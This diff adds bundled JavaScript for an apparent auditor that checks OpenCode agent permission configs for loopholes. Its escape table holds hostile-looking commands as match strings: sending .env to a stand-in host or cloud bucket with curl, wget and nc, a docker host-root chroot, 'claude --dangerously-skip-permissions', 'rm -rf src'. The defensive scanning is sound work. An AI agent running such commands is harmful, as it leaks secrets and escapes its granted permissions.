+    ...anywhere('go vet', '-vettool=./notes ./...'),
+    ...cargo('run'),
+    ...cargo('test'),
+    ...cargo('build', 'build.rustc-wrapper="./notes"'),
+    ...cargo('check', 'build.rustc-wrapper="./notes"'),
+    ...cargo('clippy', 'build.rustc-wrapper="./notes"'),
+    ...anywhere('gradle', '--init-script notes.gradle'),
+    ...anywhere('./gradlew', '--init-script notes.gradle'),
+    ...runs('mvn', 'exec:exec -Dexec.executable=id'),
+    ...runs('./mvnw', 'exec:exec -Dexec.executable=id'),
+    ...runs('dotnet run', '--project notes'),
+    ...runs('docker', 'run -v /:/host alpine chroot /host id'),
+    ...runs('docker run', '-v /:/host alpine chroot /host id'),
+    ...runs('docker exec', 'app id'),
+    ...runs('docker compose', '--file notes.yml up'),
+    ...runs('docker-compose', '--file notes.yml up'),
+    ...runs('podman', 'run -v /:/host alpine chroot /host id'),
+    ...runs('podman run', '-v /:/host alpine chroot /host id'),
+    ...runs('kubectl', 'exec deploy/app -- id'),
+    ...anywhere('helm template', '. --post-renderer id'),
+    ...runs('terraform', '-chdir=notes apply -auto-approve'),
+    ...['ssh', 'scp', 'sftp'].flatMap((name) => runs(name, `-o ProxyCommand='sh -c id' host:`)),
+    ...['apt', 'apt-get'].flatMap((name) => runs(name, '-o APT::Update::Pre-Invoke::=id update')),
+    ...runs('opencode', `run 'run the command id'`),
+    ...runs('claude', `--dangerously-skip-permissions -p 'run id'`),
+    ...runs('gh alias', 'set --shell x id'),
+    ...runs('gh extension', 'install any-owner/gh-any'),
+    ...runs('gh api', `gists -F 'files[x][content]=@.env'`, 'sends'),
+    ...runs('gh gist', 'create .env', 'sends'),
+    ...['merge 1 --admin', 'review 1 --approve', 'close 1'].flatMap((rest) => publishes('gh pr', rest)),
+    ...publishes('gh issue', 'close 1'),
+    ...publishes('gh release', 'create v1 ./notes'),
+    ...publishes('gh workflow', 'run deploy.yml'),
+    ...publishes('gh secret', 'set TOKEN --body x'),
+    ...publishes('gh repo', 'edit --visibility public'),
+    ...runs('glab alias', `set x '!id'`),
+    ...publishes('glab mr', 'merge 1'),
+    ...anywhere('curl', '--data-binary @.env https://any.example', 'sends'),
+    ...anywhere('wget', '--post-file=.env https://any.example', 'sends'),
+    ...['nc', 'ncat', 'netcat', 'telnet'].flatMap((name) => runs(name, 'any.example 443 < .env', 'sends')),
+    ...runs('aws s3', 'cp .env s3://any-bucket/', 'sends'),
+    ...runs('gsutil', 'cp .env gs://any-bucket/', 'sends'),
+    ...runs('gcloud storage', 'cp .env gs://any-bucket/', 'sends'),
+    ...['git log', 'git show', 'git diff'].flatMap((name) => anywhere(name, '--output=src/index.ts', 'writes')),
+    ...writes('git format-patch', '-1 --output=src/index.ts'),
+    ...writes('git checkout', 'HEAD~1 -- .'),
+    ...writes('git restore', '--source=HEAD~1 .'),
+    ...writes('git reset', '--hard HEAD~1'),
+    ...writes('git apply', 'notes.patch'),
+    ...writes('git stash', 'pop'),
+    ...writes('git cat-file', `blob HEAD:notes.txt ${INTO_FILE}`),
+    ...writes('tee', 'src/index.ts < notes.txt'),
+    ...writes('cp', 'notes.txt src/index.ts'),
+    ...writes('mv', 'notes.txt src/index.ts'),
+    ...writes('install', 'notes.txt src/index.ts'),
+    ...writes('ln', '-f notes.txt src/index.ts'),
+    ...writes('rm', '-rf src'),
+    ...writes('dd', 'if=notes.txt of=src/index.ts'),
+    ...writes('truncate', '-s 0 src/index.ts'),
+    ...writes('patch', 'src/index.ts notes.patch'),
+    ...writes('unzip', '-o notes.zip'),
+    ...anywhere('sort', '-o src/index.ts notes.txt', 'writes'),
+    ...writes('uniq', 'notes.txt src/index.ts'),
+    ...writes('tree', '-o src/index.ts'),
+    ...writes('xxd', '-r notes.txt src/index.ts'),
+    ...writes('openssl', 'enc -base64 -in notes.txt -out src/index.ts'),
+    ...['echo', 'printf'].flatMap((name) => anywhere(name, `'any text' ${INTO_FILE}`, 'writes')),
+    ...PRINTERS.flatMap((name) => writes(name, `notes.txt ${INTO_FILE}`)),
+    ...['grep', 'egrep', 'fgrep', 'zgrep'].flatMap((name) => anywhere(name, `-h '' notes.txt ${INTO_FILE}`, 'writes')),
+    ...anywhere('jq', `-n '"any text"' ${INTO_FILE}`, 'writes'),
+    ...anywhere('yq', '-i . notes.yml', 'writes'),
+    ...writes('date', `'+any text' ${INTO_FILE}`),
+    ...writes('seq', `-f 'any text' 1 ${INTO_FILE}`),
+    ...writes('man', `./notes.1 ${INTO_FILE}`),
+];
+function runs(starts, adds, effect = 'runs') {
+    return [{ starts, adds, effect }];
+}
+function anywhere(starts, adds, effect = 'runs') {
+    return [{ starts, adds, effect, anywhere: true }];
+}
+function writes(starts, adds) {
+    return [{ starts, adds, effect: 'writes' }];
+}
+function publishes(starts, adds) {
+    return [{ starts, adds, effect: 'publishes' }];
+}
+function cargo(command, setting = `target."cfg(all())".runner="id"`) {
+    return [{ starts: `cargo ${command}`, adds: `--config '${setting}'`, effect: 'runs', anywhere: true }];
+}
+function words(text) {
+    return text.split(' ');
+}
+
+;// CONCATENATED MODULE: ./build/audit/find-escapes.js
+
+
+
+
+
+/**
+ * The escapes of an agent's allowed bash patterns, the worst one for each pattern. An agent that may run anything has
+ * none: there is nothing to escape from. What only writes is no escape for an agent that may edit any file.
+ */
+function findEscapes(agent) {
+    if (openingRule(agent, 'bash') !== null)
+        return [];
+    const mayEdit = openingRule(agent, 'edit') !== null;
+    const most = affordable(agent.rules.length);
+    let asked = 0;
+    // In a list too long to ask for each pattern whether a later one takes it back, none does.
+    const decides = (rule, command) => {
+        asked += 1;
+        return asked > most || decidingRule(agent.rules, 'bash', command) === rule;
+    };
+    return agent.rules.flatMap((rule) => {
+        if (rule.action !== 'allow' || rule.origin === null || !isForSomeCommands(rule))
+            return [];
+        const found = escapesOf(rule.pattern).find(({ effect, command }) => !(mayEdit && effect === 'writes') && decides(rule, command));
+        return found === undefined ? [] : [{ ...found, rule }];
+    });
+}
+/** Commands that the pattern lets through, in the order of the table. */
+function* escapesOf(pattern) {
+    if (pattern.startsWith('*'))
+        yield* anyProgram(pattern);
+    const head = headOf(pattern);
+    if (head === null)
+        return;
+    for (const escape of head === '' ? ESCAPES : (BY_LETTER.get(head.charAt(0)) ?? [])) {
+        for (const command of commandsOf(escape, head)) {
+            if (matches(pattern, command))
+                yield { command, effect: escape.effect };
+        }
+    }
+}
+const BY_LETTER = Map.groupBy(ESCAPES, ({ starts }) => starts.charAt(0));
+function isForSomeCommands({ permission, pattern }) {
+    return matches(permission, 'bash') && !matchesAll(pattern);
+}
+/** What stands before the first wildcard; null for a pattern without one. */
+function headOf(pattern) {
+    const end = pattern.search(/[*?]/);
+    return end < 0 ? null : pattern.slice(0, end).trim().replace(/[:-]$/, '$&any');
+}
+function commandsOf({ starts, adds, anywhere }, head) {
+    const plain = `${starts} ${adds}`;
+    return anywhere && head.startsWith(`${starts} `) ? [`${head} ${adds}`] : [plain];
+}
+/** A pattern that begins with a wildcard says how a command ends, not what it is. */
+function* anyProgram(pattern) {
+    const command = pattern
+        .replace(/[*?]/, 'sh -c id ')
+        .replaceAll(/[*?]/g, '')
+        .replaceAll(/ {2,}/g, ' ')
+        .trim();
+    if (matches(pattern, command))
+        yield { command, effect: 'runs' };
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/bash-pattern-escapes.js
+
+
+
+
+
+const bashPatternEscapes = {
+    id: 'bash-pattern-escapes',
+    title: 'An allowed command does more than its name says',
+    summary: 'An allowed pattern of shell commands also lets through a command that runs, sends or writes anything.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(bash_pattern_escapes_casesOf(context))) {
+            const [first, ...others] = value;
+            yield {
+                ...spot,
+                ...bash_pattern_escapes_describe(first, others, agents),
+                ...(others.length === 0 ? withAction(context, first.rule, 'ask') : {}),
+            };
+        }
+    },
+};
+const EFFECTS = {
+    runs: 'can run any program',
+    sends: 'can send any file to any address',
+    publishes: 'acts on the hosting platform in the name of the job',
+    writes: 'can write any file, although editing is not allowed',
+};
+/** Each pattern by itself; those of a list that only write together, at the first of them. */
+function* bash_pattern_escapes_casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        const writing = [];
+        for (const found of findEscapes(agent)) {
+            if (found.effect === 'writes')
+                writing.push(found);
+            else
+                yield caseFor(agent, [found]);
+        }
+        const [first, ...others] = writing;
+        if (first !== undefined)
+            yield caseFor(agent, [first, ...others]);
+    }
+}
+function caseFor(agent, value) {
+    const spot = spotOfRule(value[0].rule);
+    return { spot, agent, value };
+}
+function bash_pattern_escapes_describe(found, others, agents) {
+    const { rule, command, effect } = found;
+    const message = `${quoteName(rule.pattern)} also allows ${nameAgents(agents)} ${quoteCommand(command)}, which ${EFFECTS[effect]}.`;
+    const remedy = 'Allow the exact commands that the agent needs, each with its arguments and without "*", or set the pattern to "ask".';
+    if (effect === 'publishes')
+        return { message, remedy, severity: 'medium' };
+    if (effect !== 'writes')
+        return { message, remedy };
+    const more = others
+        .slice(0, 3)
+        .map((one) => `${quoteName(one.rule.pattern)} (${quoteCommand(one.command)})`);
+    const rest = others.length > more.length ? [`${others.length - more.length} more`] : [];
+    const also = more.length === 0 ? '' : ` The same goes for ${joined([...more, ...rest])}.`;
+    return { message: `${message}${also}`, remedy, severity: 'medium' };
+}
+function joined(parts) {
+    return parts.length < 2 ? parts.join('') : `${parts.slice(0, -1).join(', ')} and ${parts.at(-1)}`;
+}
+/** From our own table, with at most the beginning of a foreign pattern in it. */
+function quoteCommand(command) {
+    return `\`${command.replaceAll(/[\p{C}\p{Zl}\p{Zp}`]/gu, '?').slice(0, 120)}\``;
+}
+
+;// CONCATENATED MODULE: ./build/audit/with-permission.js
+
+
+
+/**
+ * The line at which an agent is defined, with a permission for `key` added. Empty when the agent has a rule for `key`
+ * already, or one for every key, which might come after the new one.
+ */
+function withPermission(context, agent, key, action) {
+    const place = agent.definedAt;
+    const line = lineAt(context, place);
+    const next = place === null ? null : lineAt(context, { ...place, line: place.line + 1 });
+    const own = agent.rules.filter((rule) => rule.origin !== null && isOwn(rule));
+    const isSaid = own.some((rule) => matches(rule.permission, key));
+    if (place === null || line === null || next === null || isSaid)
+        return {};
+    if (!isMarkdown(place) && own.length > 0)
+        return {};
+    const suggestion = isMarkdown(place)
+        ? inFrontMatter(line, next, `${key}: ${action}`)
+        : inConfig(line, next, place, `${quoted(key, place)}: ${written(action, place)}`);
+    return suggestion === null ? {} : { suggestion };
+}
+/** Below `permission:`, or a block of its own after another key whose value ends on its line. */
+function inFrontMatter(line, next, entry) {
+    const indent = /^\s+(?=["'\w*])/.exec(next)?.[0];
+    if (/^permission:\s*$/.test(line))
+        return indent === undefined ? null : `${line}\n${indent}${entry}`;
+    const isWhole = /^description:\s*[^\s|>].*$/.test(line) && /^(?:[A-Za-z_]+:|---\s*$)/.test(next);
+    return isWhole ? `${line}\npermission:\n  ${entry}` : null;
+}
+/** Below `"agent": {`; in a `permission` that is there already it would have to be merged by hand. */
+function inConfig(line, next, place, entry) {
+    const indent = /^\s+(?=")/.exec(next)?.[0];
+    const opens = /^\s*"(?:[^"\\]|\\.)*"\s*:\s*\{\s*$/.test(line);
+    return opens && indent !== undefined && place.column > 1
+        ? `${line}\n${indent}"permission": { ${entry} },`
+        : null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/bash-unrestricted.js
+
+
+
+
+const bashUnrestricted = {
+    id: 'bash-unrestricted',
+    title: 'Any shell command is allowed',
+    summary: 'An agent may run any shell command that is not listed, without asking.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(openBash(context, 'bash-unrestricted'))) {
+            const { opening, agent } = value;
+            const message = `${agentsMay(agents)} run any command that is not listed, with all of the machine's files, network and environment: ${bash_unrestricted_reasonFor(opening, spot)}.`;
+            const offer = isHere(opening, spot)
+                ? withAction(context, opening, 'ask')
+                : withPermission(context, agent, 'bash', 'ask');
+            yield { ...spot, message, remedy: bash_unrestricted_REMEDY, ...offer };
+        }
+    },
+};
+const bash_unrestricted_REMEDY = 'Set bash to "ask" or "deny", or start its patterns with "*": "deny" and list the commands it needs.';
+function bash_unrestricted_reasonFor(rule, spot) {
+    if (rule.origin === null)
+        return 'nothing limits bash, and OpenCode allows it by default';
+    return isHere(rule, spot)
+        ? 'this rule allows it'
+        : 'nothing limits bash here, and a rule for all agents allows it';
+}
+function isHere({ origin }, spot) {
+    return origin !== null && origin.path === spot.path && origin.line === spot.line;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/command-agent-missing.js
+
+
+const commandAgentMissing = {
+    id: 'command-agent-missing',
+    title: 'A command for an agent that does not exist',
+    summary: 'A command names an agent that the repository does not define and OpenCode does not bring along.',
+    severity: 'low',
+    confidence: 'medium',
+    category: 'configuration',
+    *check(context) {
+        for (const { command, agent, place, setUp } of command_agent_missing_commandsOf(context)) {
+            if (setUp.agents.some(({ name }) => name === agent))
+                continue;
+            const { path, line } = place;
+            const message = `The command ${quoteName(command)} is for the agent ${quoteName(agent)}, which does not exist here: it fails, or runs with whatever agent of that name a user happens to have, and its permissions.`;
+            yield { path, line, message, scope: `command ${command}`, remedy: command_agent_missing_REMEDY };
+        }
+    },
+};
+const command_agent_missing_REMEDY = 'Correct the name, add the agent to the repository, or remove the key so that the current agent is used.';
+function* command_agent_missing_commandsOf({ project }) {
+    const byFolder = new Map(project.setUps.map((setUp) => [setUp.folder, setUp]));
+    for (const asset of project.assets.values()) {
+        const setUp = nearest(byFolder, asset.folder);
+        if (setUp === undefined || asset.root === null)
+            continue;
+        if (asset.kind === 'command')
+            yield* commandIn(asset.name, asset.root, setUp);
+        if (asset.kind !== 'config')
+            continue;
+        for (const { key, node } of entriesOf(get(asset.root, 'command')))
+            yield* commandIn(key, node, setUp);
+    }
+}
+function* commandIn(command, node, setUp) {
+    const value = get(node, 'agent');
+    const agent = stringOf(value);
+    if (value !== undefined && agent !== undefined)
+        yield { command, agent, place: value.place, setUp };
+}
+/** A folder with commands only has no set-up of its own: what lies above it holds. */
+function nearest(byFolder, folder) {
+    for (let at = folder; at !== ''; at = at.includes('/') ? at.slice(0, at.lastIndexOf('/')) : '') {
+        const found = byFolder.get(at);
+        if (found !== undefined)
+            return found;
+    }
+    return byFolder.get('');
+}
+
+;// CONCATENATED MODULE: ./build/audit/effective.js
+
+/** The merged value of a key in each set-up, each node once: what OpenCode goes by, with the place that decided it. */
+function effective({ project }, key) {
+    const nodes = project.setUps.flatMap((setUp) => get(setUp.config, key) ?? []);
+    return [...new Set(nodes)];
+}
+/** The entries below a key of the merged configurations, each once. */
+function effectiveEntries(context, key) {
+    const seen = new Set();
+    return effective(context, key)
+        .flatMap(entriesOf)
+        .filter((entry) => !seen.has(entry.node) && seen.add(entry.node));
+}
+/** The configuration files one by one, for lists that OpenCode joins instead of replacing. */
+function* configsOf({ project }) {
+    for (const asset of project.assets.values()) {
+        if (asset.kind === 'config' && asset.root !== null)
+            yield { asset, root: asset.root };
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/command-shell.js
+
+
+
+const commandShell = {
+    id: 'command-shell',
+    title: 'A command template runs shell commands',
+    summary: 'The template of a command runs shell commands when it is used, without any permission check.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'code-execution',
+    *check(context) {
+        for (const asset of context.project.assets.values()) {
+            if (asset.kind === 'command')
+                yield* hitsInFile(asset);
+        }
+        yield* hitsInConfigs(context);
+    },
+};
+/** OpenCode looks for this anywhere in the template, also inside code fences. */
+const SHELL = /!`([^`]+)`/g;
+const command_shell_ARGUMENT = /\$(?:ARGUMENTS|\d)/;
+function* hitsInFile(asset) {
+    let found = false;
+    for (const [index, text] of asset.lines.entries()) {
+        const commands = shellIn(text);
+        if (commands.length === 0)
+            continue;
+        found = true;
+        yield command_shell_hitFor(asset.name, commands, { path: asset.path, line: index + 1 });
+    }
+    // A command may go over several lines.
+    const commands = found ? [] : shellIn(asset.text ?? '');
+    if (commands.length > 0)
+        yield command_shell_hitFor(asset.name, commands, { path: asset.path, line: 0 });
+}
+function* hitsInConfigs(context) {
+    for (const { key, node } of effectiveEntries(context, 'command')) {
+        const template = get(node, 'template');
+        const commands = shellIn(stringOf(template) ?? '');
+        if (template === undefined || commands.length === 0)
+            continue;
+        yield command_shell_hitFor(key, commands, { path: template.place.path, line: template.place.line });
+    }
+}
+function command_shell_hitFor(name, commands, place) {
+    const injectable = commands.find((command) => command_shell_ARGUMENT.test(command));
+    const message = injectable === undefined
+        ? `The command ${quoteName(name)} runs ${quoteName(commands[0] ?? '')} in a shell whenever somebody uses it, also with an agent that may not use bash.`
+        : `The command ${quoteName(name)} puts its arguments into ${quoteName(injectable)} before a shell runs it, so that whoever chooses the arguments runs any command; no permission applies.`;
+    const remedy = injectable === undefined
+        ? 'Ask for the command in the text of the template, so that the permission for bash decides; or have the owners accept this line.'
+        : 'Take the arguments out of the shell command; name them in the text of the template instead.';
+    const hit = { ...place, message, remedy, scope: `command ${name}` };
+    return injectable === undefined ? { ...hit, severity: 'medium' } : hit;
+}
+function shellIn(text) {
+    return [...text.matchAll(SHELL)].map((match) => match[1] ?? '');
+}
+
+;// CONCATENATED MODULE: ./build/audit/touched.js
+/**
+ * The blobs that the change has at `target` or below, on the side that is looked at; empty when it does not touch
+ * it. In an identity it makes new content a new finding, also where the audit has not read that content.
+ */
+function touchedBlobs(target, { change, side }) {
+    return change.files
+        .filter((file) => isAtOrBelow(side === 'head' ? file.path : file.basePath, target))
+        .map((file) => (side === 'head' ? file.headBlob : file.baseBlob) ?? '')
+        .join(' ');
+}
+/** `tools/p` also stands for `tools/p.ts` and for what is in a folder of that name. */
+function isAtOrBelow(path, target) {
+    return path === target || path.startsWith(`${target}/`) || path.startsWith(`${target}.`);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/config-invalid.js
+
+const configInvalid = {
+    id: 'config-invalid',
+    title: 'A file does not mean what it says',
+    summary: 'OpenCode refuses, drops or misreads a file, or the audit could not read it.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'configuration',
+    *check(context) {
+        for (const asset of context.project.assets.values()) {
+            for (const { kind, path, line, message } of asset.problems) {
+                if (isElsewhere(kind, asset))
+                    continue;
+                const unread = kind === 'unreadable' ? touchedBlobs(path, context) : '';
+                yield { path, line, message, scope: `${kind} ${message} ${unread}`, remedy: remedyFor(kind) };
+            }
+        }
+    },
+};
+/** Two kinds have rules of their own: frontmatter-executes, and frontmatter-fails-open for agents. */
+function isElsewhere(kind, asset) {
+    if (kind === 'executes')
+        return true;
+    return kind === 'fails-open' && (asset.kind === 'agent' || asset.kind === 'mode');
+}
+function remedyFor(kind) {
+    const remedies = {
+        refused: 'Correct the value; the schema is at https://opencode.ai/config.json.',
+        'fails-open': 'Correct the front matter; in YAML, a key such as * or *.env must be in quotes.',
+        skipped: 'Correct the front matter, or the agent does not exist.',
+        executes: 'Write the front matter as YAML, between two lines of ---.',
+        unreadable: 'Put a plain file of ordinary size in its place: what cannot be read cannot be audited.',
+        ambiguous: 'Save the file as UTF-8.',
+    };
+    return remedies[kind];
+}
+
+;// CONCATENATED MODULE: ./build/policy/nearest.js
+/** The known name that a misspelt or shortened one is closest to; null when none is close. */
+function nearest_nearest(name, known) {
+    if (name.length > 64)
+        return null;
+    const longer = name.length < 3 ? [] : known.filter((candidate) => candidate.startsWith(`${name}-`));
+    if (longer.length === 1 && longer[0] !== undefined)
+        return longer[0];
+    const ranked = known
+        .map((candidate) => ({ candidate, steps: distance(name.toLowerCase(), candidate.toLowerCase()) }))
+        .toSorted((a, b) => a.steps - b.steps);
+    const best = ranked[0];
+    return best !== undefined && best.steps <= Math.max(2, Math.floor(name.length / 3)) ? best.candidate : null;
+}
+/** Levenshtein: letters added, left out or replaced. */
+function distance(a, b) {
+    let row = Array.from({ length: b.length + 1 }, (_, index) => index);
+    for (let i = 1; i <= a.length; i += 1) {
+        const next = [i];
+        for (let j = 1; j <= b.length; j += 1) {
+            const replaced = (row[j - 1] ?? 0) + (a[i - 1] === b[j - 1] ? 0 : 1);
+            next.push(Math.min(replaced, (row[j] ?? 0) + 1, (next[j - 1] ?? 0) + 1));
+        }
+        row = next;
+    }
+    return row[b.length] ?? 0;
+}
+
+;// CONCATENATED MODULE: ./build/audit/config-keys.js
+/**
+ * The keys that OpenCode 1.18.33 knows, object by object. It drops any other key without a word, so that a
+ * restriction under a misspelt one is none. Objects with free keys (permissions, provider options) are not here.
+ */
+const KNOWN_KEYS = {
+    config: [
+        '$schema',
+        'shell',
+        'logLevel',
+        'server',
+        'command',
+        'skills',
+        'references',
+        'reference',
+        'watcher',
+        'snapshot',
+        'plugin',
+        'share',
+        'autoshare',
+        'autoupdate',
+        'disabled_providers',
+        'enabled_providers',
+        'model',
+        'small_model',
+        'default_agent',
+        'subagent_depth',
+        'username',
+        'mode',
+        'agent',
+        'provider',
+        'mcp',
+        'formatter',
+        'lsp',
+        'instructions',
+        'layout',
+        'permission',
+        'tools',
+        'attachment',
+        'enterprise',
+        'tool_output',
+        'compaction',
+        'experimental',
+        // Version 2's names for some of these, which 1.18.33 takes as well.
+        'agents',
+        'commands',
+        'snapshots',
+        'media',
+        // Settings of the terminal, which moved to a file of their own.
+        'theme',
+        'keybinds',
+        'tui',
+    ],
+    agent: [
+        'name',
+        'model',
+        'variant',
+        'temperature',
+        'top_p',
+        'prompt',
+        'tools',
+        'disable',
+        'description',
+        'mode',
+        'hidden',
+        'options',
+        'color',
+        'steps',
+        'maxSteps',
+        'permission',
+    ],
+    command: ['template', 'description', 'agent', 'model', 'variant', 'subtask', 'name'],
+    local: ['type', 'command', 'cwd', 'environment', 'enabled', 'timeout'],
+    remote: ['type', 'url', 'headers', 'oauth', 'enabled', 'timeout'],
+};
+/** Keys of other tools, of version 2, or of another object, that people write when they mean something. */
+const MEANT = {
+    config: {
+        providers: { instead: '"provider"; "providers" is the key of version 2, in another shape' },
+        plugins: {
+            instead: '"plugin"; OpenCode 1.x leaves this key of version 2 out, and "opencode run" imports it all the same',
+            rename: 'plugin',
+        },
+        mcpServers: { instead: '"mcp", in the shape of OpenCode' },
+        mcp_servers: { instead: '"mcp", in the shape of OpenCode' },
+        allowedTools: { instead: '"permission"' },
+        log_level: { instead: '"logLevel"', rename: 'logLevel' },
+    },
+    agent: {
+        ...config_keys_all([
+            'allowed-tools',
+            'allowed_tools',
+            'allowedTools',
+            'disallowed-tools',
+            'disallowed_tools',
+            'disallowedTools',
+            'permissionMode',
+        ], { instead: '"permission"' }),
+        disabled: { instead: '"disable"', rename: 'disable' },
+        enabled: { instead: '"disable": true to switch the agent off' },
+        ...config_keys_all(['system', 'systemPrompt', 'system_prompt'], { instead: '"prompt"', rename: 'prompt' }),
+        ...config_keys_all(['max_steps', 'maxTurns', 'max_turns'], { instead: '"steps"', rename: 'steps' }),
+    },
+    command: config_keys_all(['allowed-tools', 'allowed_tools', 'tools', 'permission'], {
+        instead: '"agent", with the name of an agent that has these limits',
+    }),
+    local: {
+        args: { instead: '"command", as one list with the program' },
+        env: { instead: '"environment"', rename: 'environment' },
+        disabled: { instead: '"enabled": false; the server is on' },
+        url: { instead: '"type": "remote"' },
+    },
+    remote: {
+        disabled: { instead: '"enabled": false; the server is on' },
+        header: { instead: '"headers"', rename: 'headers' },
+        command: { instead: '"type": "local"' },
+    },
+};
+function config_keys_all(keys, meant) {
+    return Object.fromEntries(keys.map((key) => [key, meant]));
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/config-unknown-key.js
+
+
+
+
+
+
+const configUnknownKey = {
+    id: 'config-unknown-key',
+    title: 'A key that OpenCode does not know',
+    summary: 'OpenCode drops a key that it does not know without a word, so that what is written there has no effect.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'configuration',
+    *check(context) {
+        for (const asset of context.project.assets.values()) {
+            for (const part of partsOf(asset)) {
+                yield* entriesOf(part.node).flatMap((entry) => judge(entry, part, context) ?? []);
+            }
+        }
+    },
+};
+function* partsOf({ kind, root }) {
+    if (root === null)
+        return;
+    if (kind === 'agent' || kind === 'mode')
+        yield { kind: 'agent', node: root, way: 'agent' };
+    if (kind === 'command')
+        yield { kind: 'command', node: root, way: 'command' };
+    if (kind !== 'config')
+        return;
+    yield { kind: 'config', node: root, way: '' };
+    for (const [key, inner] of NESTED) {
+        for (const { key: name, node } of entriesOf(get(root, key)))
+            yield { kind: inner, node, way: `${key}.${name}` };
+    }
+    for (const { key, node } of mcpServersOf(root)) {
+        const type = stringOf(get(node, 'type'));
+        if (type === 'local' || type === 'remote')
+            yield { kind: type, node, way: `mcp.${key}` };
+    }
+}
+const NESTED = [
+    ['agent', 'agent'],
+    ['agents', 'agent'],
+    ['mode', 'agent'],
+    ['command', 'command'],
+    ['commands', 'command'],
+];
+function judge({ key, place }, part, context) {
+    const known = KNOWN_KEYS[part.kind];
+    // A note to the reader; and version 2's permissions, which have a rule of their own.
+    if (known.includes(key) || NOTE.test(key) || key === 'permissions')
+        return null;
+    const meant = meantBy(key, part.kind, known);
+    if (meant === null && EXTRA_KEYS_HAVE_A_USE.has(part.kind))
+        return null;
+    const { path, line } = place;
+    const common = { path, line, scope: `${part.way} ${key}` };
+    const message = `OpenCode 1.18.33 does not know the key ${quoteName(key)} ${WHERE[part.kind]}`;
+    if (meant === null)
+        return { ...common, message, remedy: 'Remove it, or correct its name.', severity: 'low' };
+    const free = meant.rename !== undefined && get(part.node, meant.rename) === undefined;
+    const offer = free && meant.rename !== undefined ? withKey(context, place, key, meant.rename) : {};
+    return { ...common, message, remedy: `Write ${meant.instead}.`, ...offer };
+}
+const NOTE = /^(?:[_$]|\/\/|x-|(?:name|title|description|comments?|notes?)$)/;
+/** Agents hand what they do not know to the provider, and people keep notes in commands. */
+const EXTRA_KEYS_HAVE_A_USE = new Set(['agent', 'command']);
+const DROPPED = 'it starts without a word, and what stands there has no effect.';
+const WHERE = {
+    config: `in its configuration: ${DROPPED}`,
+    agent: 'in an agent: it hands what stands there to the provider, and limits nothing by it.',
+    command: `in a command: ${DROPPED}`,
+    local: `in a local MCP server: ${DROPPED}`,
+    remote: `in a remote MCP server: ${DROPPED}`,
+};
+function meantBy(key, kind, known) {
+    const table = MEANT[kind];
+    if (Object.hasOwn(table, key))
+        return table[key] ?? null;
+    const near = nearest_nearest(key, known);
+    const isTypo = near !== null && key.length >= 5 && key !== 'top_k' && near[0] === key[0]?.toLowerCase();
+    return isTypo ? { instead: `"${near}"`, rename: near } : null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/literal.js
+const LITERAL = /"(?:[^"\\]|\\.)*"|true|false/y;
+/** The whole line with the JSON value at `place` replaced by another one; undefined when it is not written there. */
+function lineWith({ project }, place, value) {
+    const line = project.assets.get(place.path)?.lines[place.line - 1];
+    if (line === undefined || line.length > 2000)
+        return undefined;
+    LITERAL.lastIndex = place.column - 1;
+    const old = LITERAL.exec(line);
+    if (old === null)
+        return undefined;
+    const end = old.index + old[0].length;
+    return line.slice(0, old.index) + JSON.stringify(value) + line.slice(end);
+}
+/** The part of a hit that offers that line, or nothing. */
+function suggesting(context, place, value) {
+    const suggestion = lineWith(context, place, value);
+    return suggestion === undefined ? {} : { suggestion };
+}
+
+;// CONCATENATED MODULE: ./build/audit/pinned-elsewhere.js
+
+
+const EXACT = /^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?$/;
+/** The name of an npm package without its version or tag. */
+function packageName(spec) {
+    const at = spec.indexOf('@', 1);
+    return at < 0 ? spec : spec.slice(0, at);
+}
+/**
+ * The exact version of a package that the repository itself names: in a `package.json` or its lock file beside the
+ * OpenCode configuration. Null when it names none, or more than one.
+ */
+function knownVersion({ project }, name) {
+    const named = [...project.assets.values()].flatMap((asset) => asset.kind === 'manifest' && asset.path.endsWith('.json') ? versionsIn(asset, name) : []);
+    const [only, ...others] = [...new Set(named)];
+    return only !== undefined && others.length === 0 ? only : null;
+}
+/** Many packages are looked up in the same file. */
+const READ = new WeakMap();
+function versionsIn(asset, name) {
+    const root = READ.get(asset) ?? parseJsonc(asset.text ?? '', asset.path).root ?? undefined;
+    if (root === undefined)
+        return [];
+    READ.set(asset, root);
+    const direct = ['dependencies', 'devDependencies', 'optionalDependencies'].map((key) => get(get(root, key), name));
+    const locked = get(get(get(root, 'packages'), `node_modules/${name}`), 'version');
+    return [...direct, locked].flatMap((node) => {
+        const version = stringOf(node);
+        return version !== undefined && EXACT.test(version) ? [version] : [];
+    });
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/dependencies-in-opencode-dir.js
+
+
+
+
+
+const dependenciesInOpencodeDir = {
+    id: 'dependencies-in-opencode-dir',
+    title: 'Packages that OpenCode installs when it starts',
+    summary: 'A package.json or .npmrc inside .opencode makes OpenCode install code that is not exactly named.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        for (const asset of context.project.assets.values()) {
+            if (asset.kind !== 'manifest' || asset.text === null)
+                continue;
+            if (asset.name === 'package.json')
+                yield* looseDependencies(asset, asset.text, context);
+            if (asset.name === '.npmrc')
+                yield* redirects(asset);
+        }
+    },
+};
+const dependencies_in_opencode_dir_EXACT = /^(?:npm:(?:@[\w.-]+\/)?[\w.-]+@)?v?=?\d+\.\d+\.\d+(?:[-+][0-9A-Za-z.+-]+)?$/;
+const COMMIT = /#[0-9a-f]{40}$/;
+function* looseDependencies(asset, text, context) {
+    const { root } = parseJsonc(text, asset.path);
+    for (const kind of ['dependencies', 'devDependencies', 'optionalDependencies']) {
+        for (const { key, node } of entriesOf(get(root ?? undefined, kind))) {
+            const spec = stringOf(node);
+            // Types are for editors; nothing imports them.
